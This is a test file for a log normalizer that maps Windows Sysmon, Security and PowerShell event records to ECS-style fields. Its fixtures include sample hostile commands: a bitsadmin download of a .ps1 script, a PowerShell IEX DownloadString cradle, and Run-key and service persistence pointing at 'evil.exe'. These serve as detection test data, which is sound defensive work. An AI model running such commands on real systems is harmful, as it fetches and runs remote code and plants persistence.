import { describe, expect, it } from 'vitest';
import { DEFAULT_INPUT_LIMITS } from '../../core/limits.ts';
import { normalizeRecord } from '../normalize-record.ts';
import { otrfArchives, readOtrfLines } from '../../../test/otrf-reader.ts';

const norm = (doc: unknown, sourceType = 'auto') =>
  normalizeRecord({ source: 't', sourceType, receivedAt: Date.UTC(2024, 0, 1), text: JSON.stringify(doc) }, DEFAULT_INPUT_LIMITS);

const sysmon1 = {
  Keywords: '0x8000000000000000', Task: '1', Description: 'BITS administration utility',
  CommandLine: 'bitsadmin.exe /transfer /Download https://example.test/a.ps1 C:\\Users\\wardog\\a.ps1',
  TimeCreated: '2020-10-23T02:36:43.547Z', '@timestamp': '2020-10-23T02:36:43.999Z', OriginalFileName: 'bitsadmin.exe',
  User: 'WORKSTATION5\\wardog', ParentProcessId: '10044', SourceName: 'Microsoft-Windows-Sysmon', IntegrityLevel: 'High',
  ProcessGuid: '{39e4a257-79fb-5f92-7117-000000000700}', CurrentDirectory: 'C:\\Users\\wardog\\',
  Hashes: 'SHA1=282DA9EE622F01CC63352E53FDC3D4A75CEEB6FD,MD5=A23A7A6B6F8E1A5D913EA119F5F2ED1A,SHA256=EAAE8536D554D0E86D8540A8B34DB2649BD884843F389495D0B6E91636C6CF54,IMPHASH=B0A3CFF8CFDE112945189719F82F9EA9',
  UtcTime: '2020-10-23 06:36:43.542', ParentCommandLine: '"C:\\windows\\system32\\cmd.exe" ', ProcessId: '9260',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentProcessGuid: '{39e4a257-79ed-5f92-6e17-000000000700}',
  Image: 'C:\\Windows\\System32\\bitsadmin.exe', Hostname: 'WORKSTATION5', Level: '4', EventID: 1, RuleName: '-',
  ProviderGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}', Message: 'Process Create:\r\nRuleName: -', Channel: 'Microsoft-Windows-Sysmon/Operational',
};

describe('windows: flat OTRF shape', () => {
  it('maps Sysmon 1 to process.* and keeps every EventData field', () => {
    const ev = norm(sysmon1);
    expect(ev.sourceType).toBe('windows');
    expect(ev.parseError).toBeUndefined();
    const f = ev.fields;
    expect(f['@timestamp']).toBe('2020-10-23T02:36:43.547Z'); // TimeCreated wins over the shipper's @timestamp
    expect(f).toMatchObject({
      'event.code': '1', 'winlog.event_id': '1', 'winlog.channel': 'Microsoft-Windows-Sysmon/Operational',
      'winlog.provider_name': 'Microsoft-Windows-Sysmon', 'event.provider': 'Microsoft-Windows-Sysmon', 'host.name': 'WORKSTATION5',
      'event.category': ['process'], 'event.type': ['start'], 'event.module': 'sysmon',
      'process.executable': 'C:\\Windows\\System32\\bitsadmin.exe', 'process.name': 'bitsadmin.exe', 'process.pid': 9260,
      'process.entity_id': '{39e4a257-79fb-5f92-7117-000000000700}', 'process.command_line': sysmon1.CommandLine,
      'process.parent.pid': 10044, 'process.parent.executable': 'C:\\Windows\\System32\\cmd.exe', 'process.parent.name': 'cmd.exe',
      'process.hash.sha1': '282da9ee622f01cc63352e53fdc3d4a75ceeb6fd', 'process.hash.md5': 'a23a7a6b6f8e1a5d913ea119f5f2ed1a',
      'process.hash.imphash': 'b0a3cff8cfde112945189719f82f9ea9', 'user.name': 'wardog', 'user.domain': 'WORKSTATION5',
      'related.user': ['wardog'], 'winlog.event_data.CommandLine': sysmon1.CommandLine, 'winlog.event_data.RuleName': '-',
      'winlog.event_data.UtcTime': '2020-10-23 06:36:43.542', 'winlog.provider_guid': sysmon1.ProviderGuid, message: sysmon1.Message,
    });
    expect(f['related.hash']).toHaveLength(4);
    expect(f['winlog.event_data.EventID']).toBeUndefined();
  });

  it('maps Sysmon 3 network connections with validated addresses', () => {
    const f = norm({
      EventID: 3, Channel: 'Microsoft-Windows-Sysmon/Operational', Hostname: 'WS1', SourceName: 'Microsoft-Windows-Sysmon',
      '@timestamp': '2020-07-22T03:27:42.455Z', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: '172.18.39.5',
      SourcePort: '49988', DestinationIp: '169.254.169.254', DestinationPort: '80', DestinationHostname: 'metadata', Image: 'C:\\x.exe', ProcessId: '12',
    }).fields;
    expect(f).toMatchObject({
      'network.transport': 'tcp', 'network.direction': 'egress', 'network.type': 'ipv4', 'source.ip': '172.18.39.5', 'source.port': 49988,
      'destination.ip': '169.254.169.254', 'destination.port': 80, 'destination.domain': 'metadata', 'event.type': ['connection', 'start'],
    });
    expect(f['related.ip']).toEqual(['172.18.39.5', '169.254.169.254']);
  });

  it('maps Sysmon registry and DNS events; keeps Sysmon EventType apart from NXLog EventType', () => {
    const reg = norm({
      EventID: 13, Channel: 'Microsoft-Windows-Sysmon/Operational', Hostname: 'WS1', EventType: 'SetValue',
      TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil', Details: 'C:\\evil.exe', Image: 'C:\\reg.exe',
    }).fields;
    expect(reg).toMatchObject({
      'registry.path': 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil', 'registry.hive': 'HKLM',
      'registry.key': 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'registry.value': 'evil',
      'registry.data.strings': ['C:\\evil.exe'], 'winlog.event_data.EventType': 'SetValue',
    });
    const dns = norm({
      EventID: 22, Channel: 'Microsoft-Windows-Sysmon/Operational', Hostname: 'WS1', EventType: 'INFO', QueryName: 'evil.example',
      QueryStatus: '0', QueryResults: 'type:  5 cdn.example;::ffff:93.184.216.34;::ffff:93.184.216.35;', Image: 'C:\\x.exe',
    }).fields;
    expect(dns).toMatchObject({ 'dns.question.name': 'evil.example', 'dns.resolved_ip': ['93.184.216.34', '93.184.216.35'], 'nxlog.EventType': 'INFO' });
    expect(dns['winlog.event_data.EventType']).toBeUndefined();
  });

  it('maps Security 4624/4625 with logon type, source address and outcome', () => {
    const base = {
      Channel: 'Security', Hostname: 'DC1.corp.local', SourceName: 'Microsoft-Windows-Security-Auditing', EventTime: '2020-07-21 23:27:39',
      '@timestamp': '2020-07-22T03:27:42.455Z', TargetUserName: 'alice', TargetDomainName: 'CORP', TargetUserSid: 'S-1-5-21-1-2-3-1104',
      LogonType: '10', IpAddress: '::ffff:10.0.0.7', IpPort: '51234', WorkstationName: 'WS7', ProcessId: '0x1f4', ProcessName: 'C:\\Windows\\System32\\winlogon.exe',
    };
    const ok = norm({ ...base, EventID: 4624, Keywords: -9214364837600034816, EventType: 'AUDIT_SUCCESS' }).fields;
    expect(ok).toMatchObject({
      'event.category': ['authentication'], 'event.type': ['start'], 'event.outcome': 'success', 'user.name': 'alice', 'user.domain': 'CORP',
      'user.id': 'S-1-5-21-1-2-3-1104', 'winlog.logon.type': 'RemoteInteractive', 'source.ip': '10.0.0.7', 'source.port': 51234,
      'process.pid': 500, 'winlog.event_data.LogonType': '10', 'nxlog.EventTime': '2020-07-21 23:27:39', 'nxlog.EventType': 'AUDIT_SUCCESS',
    });
    const bad = norm({ ...base, EventID: 4625, Status: '0xc000006d', Keywords: '0x8010000000000000' }).fields;
    expect(bad).toMatchObject({ 'event.outcome': 'failure', 'event.action': 'logon-failed', 'winlog.logon.failure.status': '0xc000006d' });
  });

  it('derives outcome from audit keywords when the event ID does not decide it', () => {
    const f = norm({ EventID: 4663, Channel: 'Security', Keywords: -9218868437227405312, SubjectUserName: 'bob' }).fields;
    expect(f['event.outcome']).toBe('failure');
    expect(f['user.name']).toBe('bob');
  });

  it('reads channel names without regard to case, as Windows does (OTRF exports write `security`)', () => {
    const security = norm({ EventID: 4625, Channel: 'security', TargetUserName: 'pedro', LogonType: 3 }).fields;
    expect(security['event.module']).toBe('security');
    expect(security['user.name']).toBe('pedro');
    expect(security['winlog.channel']).toBe('security');
    const sysmon = norm({ EventID: 1, Channel: 'microsoft-windows-sysmon/operational', Image: 'C:\\Windows\\cmd.exe' }).fields;
    expect(sysmon['event.module']).toBe('sysmon');
    expect(sysmon['process.executable']).toBe('C:\\Windows\\cmd.exe');
  });

  it('maps 4688 process creation, 4728 group membership and 4769 kerberos status', () => {
    const p = norm({
      EventID: 4688, Channel: 'Security', NewProcessId: '0x1a2c', NewProcessName: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all',
      ProcessId: '0x2b0', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', SubjectUserName: 'alice',
    }).fields;
    expect(p).toMatchObject({ 'process.pid': 0x1a2c, 'process.name': 'whoami.exe', 'process.command_line': 'whoami /all', 'process.parent.pid': 0x2b0, 'process.parent.name': 'cmd.exe' });
    const g = norm({ EventID: 4728, Channel: 'Security', MemberName: 'CN=eve,DC=corp', MemberSid: 'S-1-5-21-9', TargetUserName: 'Domain Admins', SubjectUserName: 'admin' }).fields;
    expect(g).toMatchObject({ 'group.name': 'Domain Admins', 'user.target.name': 'CN=eve,DC=corp', 'user.name': 'admin', 'event.category': ['iam'] });
    const k = norm({ EventID: 4769, Channel: 'Security', TargetUserName: 'bob@CORP', ServiceName: 'cifs/fs1', Status: '0x6', IpAddress: '::ffff:10.1.1.1', IpPort: '0' }).fields;
    expect(k).toMatchObject({ 'event.outcome': 'failure', 'service.name': 'cifs/fs1', 'source.ip': '10.1.1.1' });
    expect(k['source.port']).toBeUndefined();
  });

  it('keeps 7045 service account as EventData', () => {
    const f = norm({ EventID: 7045, Channel: 'System', ServiceName: 'evil', ImagePath: 'C:\\evil.exe', AccountName: 'LocalSystem', UserID: 'S-1-5-18' }).fields;
    expect(f).toMatchObject({ 'service.name': 'evil', 'winlog.event_data.AccountName': 'LocalSystem', 'winlog.event_data.ImagePath': 'C:\\evil.exe', 'winlog.user.identifier': 'S-1-5-18' });
  });
});

describe('windows: nested shapes', () => {
  it('reads evtx_dump JSON with #attributes and #text', () => {
    const ev = norm({ Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell', Guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' } },
        EventID: 4104, Version: 1, Level: 5, Task: 2, Opcode: 15, Keywords: '0x0',
        TimeCreated: { '#attributes': { SystemTime: '2021-04-27T04:08:11.6223456Z' } }, EventRecordID: 1234,
        Execution: { '#attributes': { ProcessID: 4242, ThreadID: 7 } }, Channel: 'Microsoft-Windows-PowerShell/Operational',
        Computer: 'ws1.corp.local', Security: { '#attributes': { UserID: 'S-1-5-21-1' } },
      },
      EventData: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")', ScriptBlockId: 'abc', Path: '' },
    } });
    expect(ev.parseError).toBeUndefined();
    expect(ev.timestamp).toBe(Date.parse('2021-04-27T04:08:11.622Z'));
    expect(ev.fields).toMatchObject({
      'event.code': '4104', 'winlog.record_id': 1234, 'winlog.process.pid': 4242, 'host.name': 'ws1.corp.local',
      'winlog.user.identifier': 'S-1-5-21-1', 'powershell.file.script_block_text': 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
      'winlog.event_data.ScriptBlockText': 'IEX (New-Object Net.WebClient).DownloadString("http://x")', 'event.module': 'powershell',
    });
  });

  it('reads evtx_dump EventID with qualifiers, unnamed Data and UserData', () => {
    const f = norm({ Event: { System: {
      Provider: { '#attributes': { Name: 'Service Control Manager' } }, EventID: { '#attributes': { Qualifiers: 16384 }, '#text': 7036 },
      Channel: 'System', Computer: 'ws1', TimeCreated: { '#attributes': { SystemTime: '2021-01-01T00:00:00Z' } },
    }, EventData: { Data: { '#text': ['Windows Update', 'running'] } }, UserData: { LogFileCleared: { '#attributes': { xmlns: 'x' }, SubjectUserName: 'admin' } } } }).fields;
    expect(f).toMatchObject({ 'event.code': '7036', 'winlog.qualifiers': 16384, 'winlog.event_data.param1': 'Windows Update',
      'winlog.event_data.param2': 'running', 'winlog.user_data.SubjectUserName': 'admin', 'winlog.user_data.xml_name': 'LogFileCleared' });
  });

  it('reads Winlogbeat 7+ documents and keeps their ECS fields', () => {
    const f = norm({
      '@timestamp': '2023-05-01T10:00:00.000Z', message: 'A new process has been created.', agent: { type: 'winlogbeat' },
      winlog: { event_id: '4688', channel: 'Security', provider_name: 'Microsoft-Windows-Security-Auditing', computer_name: 'ws2', record_id: 99,
        keywords: ['Audit Success'], event_data: { NewProcessName: 'C:\\a.exe', NewProcessId: '0x10', CommandLine: 'a.exe -x' } },
    }).fields;
    expect(f).toMatchObject({ 'event.code': '4688', 'host.name': 'ws2', 'process.pid': 16, 'process.command_line': 'a.exe -x',
      'agent.type': 'winlogbeat', 'winlog.keywords': ['Audit Success'], 'event.outcome': 'success', 'winlog.event_data.CommandLine': 'a.exe -x' });
  });

  it('reads Winlogbeat 6 documents, keeping the shipper host apart from the event host', () => {
    const f = norm({
      '@timestamp': '2019-05-18T20:36:46.254Z', event_id: 3, log_name: 'Microsoft-Windows-Sysmon/Operational', source_name: 'Microsoft-Windows-Sysmon',
      computer_name: 'HFDC01.shire.com', host: { name: 'WECserver' }, record_number: '5402080',
      event_data: { SourceIp: '172.18.39.5', DestinationIp: '172.18.39.102', DestinationPort: '5985', Protocol: 'tcp' },
    }).fields;
    expect(f).toMatchObject({ 'host.name': 'HFDC01.shire.com', 'winlogbeat.host.name': 'WECserver', 'winlog.record_id': '5402080',
      'destination.port': 5985, 'winlog.event_data.SourceIp': '172.18.39.5' });
  });
});

describe('windows: broken records', () => {
  it('rejects a non-numeric EventID with a clear reason', () => {
    const ev = norm({ EventID: 'four', Channel: 'Security' });
    expect(ev.sourceType).toBe('raw');
    expect(ev.parseError).toMatch(/^windows: EventID is not an event number/);
  });

  it('rejects evtx_dump records without an EventID', () => {
    expect(norm({ Event: { System: { Channel: 'Security' } } }).parseError).toBe('windows: Event.System.EventID is missing');
  });

  it('falls back to the receive time for absurd or missing timestamps and keeps the raw value', () => {
    const ev = norm({ EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', TimeCreated: '9999-99-99T00:00:00Z', '@timestamp': 1e30 });
    expect(ev.timestamp).toBe(Date.UTC(2024, 0, 1));
    expect(ev.parseError).toBeUndefined();
  });

  it('survives wrong types in EventData fields', () => {
    const ev = norm({ EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', ProcessId: { x: 1 }, Image: 42, Hashes: ['a'], User: null, CommandLine: true });
    expect(ev.parseError).toBeUndefined();
    expect(ev.fields).toMatchObject({ 'winlog.event_data.ProcessId.x': 1, 'winlog.event_data.Hashes': ['a'], 'winlog.event_data.User': null, 'process.command_line': 'true' });
    expect(ev.fields['process.pid']).toBeUndefined();
  });

  it('can be forced by name', () => {
    expect(norm({ EventID: 4624, Channel: 'Security' }, 'windows').sourceType).toBe('windows');
    expect(norm({ foo: 1 }, 'windows').parseError).toMatch(/^windows: /);
  });
});

const archives = otrfArchives();
describe.skipIf(archives.length === 0)('windows: OTRF datasets (skipped: /work/shared/datasets/otrf is absent)', () => {
  const picks = ['empire_launcher_sct_regsvr32.zip', 'covenant_psremoting_command.zip', 'empire_wdigest_downgrade.tar.gz', 'aadinternals_export_adfsdatabaseconfig_remotely.zip'];
  for (const pick of picks) {
    const archive = archives.find((a) => a.endsWith(`/${pick}`));
    it.skipIf(!archive)(`normalizes the first 2,000 events of ${pick}`, () => {
      const lines = readOtrfLines(archive!, 2000);
      expect(lines.length).toBeGreaterThan(100);
      for (const text of lines) {
        const ev = normalizeRecord({ source: 'otrf', sourceType: 'auto', receivedAt: 0, text }, DEFAULT_INPUT_LIMITS);
        if (ev.sourceType !== 'windows' || ev.parseError || typeof ev.fields['event.code'] !== 'string') {
          expect.fail(`not normalized: ${ev.parseError ?? ev.sourceType}: ${text.slice(0, 200)}`);
        }
        expect(ev.timestamp).toBeGreaterThan(Date.UTC(2018, 0, 1));
      }
    });
  }
});
